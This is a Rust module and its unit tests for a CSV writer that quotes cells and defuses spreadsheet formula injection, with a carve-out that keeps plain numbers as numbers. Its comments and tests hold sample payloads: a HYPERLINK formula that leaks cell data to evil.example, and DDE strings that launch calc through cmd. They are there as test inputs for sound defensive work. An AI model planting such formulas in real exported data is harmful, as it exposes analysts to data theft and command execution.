//! The one way this product writes CSV: every cell is quoted, and a cell that a spreadsheet
//! would read as a formula (OWASP CSV injection: it starts with `=`, `+`, `-`, `@`, tab or
//! carriage return) gets a leading `'`. Any CSV writer in the product goes through [`Writer`].
//!
//! Identity data (logins, display names, ids, role names) comes from identity providers and
//! is hostile: a display name `=HYPERLINK("http://evil.example/?x="&A1,"click")` must reach
//! the analyst's spreadsheet as text. The rule applies to every column alike, whoever filled
//! it, with one exception that keeps numbers numbers: a cell that is entirely a decimal
//! number (`-3`, `+1.5`) is written as it is, since a spreadsheet reads it as that number
//! and nothing else. `-3+cmd|' /C calc'!A0` is not a number and is neutralised.

use std::borrow::Cow;
use std::io::Write;

/// Characters that make a spreadsheet treat a cell as a formula (OWASP's list).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as it must be written: unchanged, or with a leading `'` when it could run as a
/// formula.
pub fn cell(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some(c) if TRIGGERS.contains(&c) && !is_plain_number(s) => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// An optional sign, digits, and at most one decimal point with digits on some side.
fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['-', '+']).unwrap_or(s);
    let (int, frac) = body.split_once('.').unwrap_or((body, ""));
    (!int.is_empty() || !frac.is_empty())
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// A CSV writer that quotes every cell and neutralises formula cells.
pub struct Writer<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> Writer<W> {
    pub fn new(w: W) -> Writer<W> {
        Writer {
            inner: csv::WriterBuilder::new()
                .quote_style(csv::QuoteStyle::Always)
                .from_writer(w),
        }
    }

    /// Writes one record; every cell passes through [`cell`].
    pub fn write_record<'a, I>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = &'a str>,
    {
        self.inner
            .write_record(record.into_iter().map(|c| cell(c).into_owned()))
    }

    /// Writes `row` (a flat struct, serialised as a map) as one record: the value of each of
    /// `columns` in that order, absent and null values as empty cells. A column the row does
    /// not have is an error, so a header and its rows cannot drift apart.
    pub fn serialize_record<T: serde::Serialize>(
        &mut self,
        columns: &[&str],
        row: &T,
    ) -> Result<(), String> {
        use serde_json::Value;
        let Value::Object(m) = serde_json::to_value(row).map_err(|e| e.to_string())? else {
            return Err("a CSV row must serialise as a map".into());
        };
        let mut cells = Vec::with_capacity(columns.len());
        for c in columns {
            cells.push(match m.get(*c) {
                None => return Err(format!("CSV row has no column {c:?}")),
                Some(Value::Null) => String::new(),
                Some(Value::String(s)) => s.clone(),
                Some(Value::Bool(b)) => b.to_string(),
                Some(Value::Number(n)) => n.to_string(),
                Some(v @ (Value::Array(_) | Value::Object(_))) => v.to_string(),
            });
        }
        self.write_record(cells.iter().map(String::as_str))
            .map_err(|e| e.to_string())
    }

    /// Flushes and returns the underlying writer.
    pub fn into_inner(self) -> Result<W, String> {
        self.inner.into_inner().map_err(|e| e.error().to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn csv_of(cells: &[&str]) -> String {
        let mut w = Writer::new(Vec::new());
        w.write_record(cells.iter().copied()).unwrap();
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn each_trigger_character_is_neutralised() {
        for (input, want) in [
            ("=1+2", "\"'=1+2\"\n"),
            ("+1+2", "\"'+1+2\"\n"),
            ("-1+2", "\"'-1+2\"\n"),
            ("@SUM(A1:A2)", "\"'@SUM(A1:A2)\"\n"),
            ("\tx", "\"'\tx\"\n"),
            ("\rx", "\"'\rx\"\n"),
        ] {
            assert_eq!(csv_of(&[input]), want, "{input:?}");
        }
    }

    #[test]
    fn the_issue_payload_stays_text_in_one_cell() {
        let payload = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
        let out = csv_of(&["u-1", payload]);
        assert_eq!(
            out,
            "\"u-1\",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"\n"
        );
        let doc = format!("a,b\n{out}");
        let mut r = csv::Reader::from_reader(doc.as_bytes());
        let rec = r.records().next().unwrap().unwrap();
        assert_eq!(&rec[1], format!("'{payload}"));
    }

    #[test]
    fn plain_numbers_stay_numbers_in_every_column() {
        // Negative and signed numbers are not formulas: written as they are, whether the
        // exporter computed them (days) or a provider sent them (a display name "-3").
        for n in ["-3", "+7", "-0.5", "12", "-.5", "3."] {
            assert_eq!(cell(n), n, "{n}");
        }
        for not_a_number in ["-", "+", "-.", "-3+1", "-1e5", "--3", "-3 ", "+-1"] {
            assert_eq!(cell(not_a_number), format!("'{not_a_number}"));
        }
    }

    #[test]
    fn rows_are_written_by_column_name_and_neutralised() {
        #[derive(serde::Serialize)]
        struct Row<'a> {
            login: &'a str,
            days: Option<i64>,
            privileged: Option<bool>,
            ratio: f64,
            excluded: bool,
        }
        let mut w = Writer::new(Vec::new());
        let cols = ["excluded", "login", "days", "privileged", "ratio"];
        w.write_record(cols).unwrap();
        w.serialize_record(
            &cols,
            &Row {
                login: "=cmd|' /C calc'!A0",
                days: Some(-3),
                privileged: None,
                ratio: 0.5,
                excluded: false,
            },
        )
        .unwrap();
        let out = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(
            out,
            "\"excluded\",\"login\",\"days\",\"privileged\",\"ratio\"\n\"false\",\"'=cmd|' /C calc'!A0\",\"-3\",\"\",\"0.5\"\n"
        );
        let mut w = Writer::new(Vec::new());
        let e = w
            .serialize_record(
                &["nope"],
                &Row {
                    login: "",
                    days: None,
                    privileged: None,
                    ratio: 0.0,
                    excluded: false,
                },
            )
            .unwrap_err();
        assert!(e.contains("nope"), "{e}");
    }

    #[test]
    fn ordinary_text_is_untouched() {
        for s in [
            "alice@example.com",
            "",
            "Alice = admin",
            "a-b",
            " =x",
            "'quoted",
        ] {
            assert_eq!(cell(s), s);
        }
    }
}
